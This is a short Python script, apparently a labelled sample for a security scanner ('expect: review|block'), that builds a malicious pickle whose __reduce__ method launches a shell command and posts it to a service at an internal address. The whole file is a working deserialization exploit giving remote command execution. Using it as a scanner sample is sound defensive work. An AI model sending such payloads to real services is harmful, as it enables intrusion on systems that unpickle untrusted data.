# expect: review|block
# Builds a pickle that runs a command on whatever service unpickles it.
import pickle
import subprocess

import requests


class Job:
    def __init__(self, cmd):
        self.cmd = cmd

    def __reduce__(self):
        return (subprocess.Popen, (["/bin/sh", "-c", self.cmd],))


blob = pickle.dumps(Job("id > /tmp/pwn"))
requests.post("http://10.0.0.12:5000/api/jobs", data=blob, timeout=5)
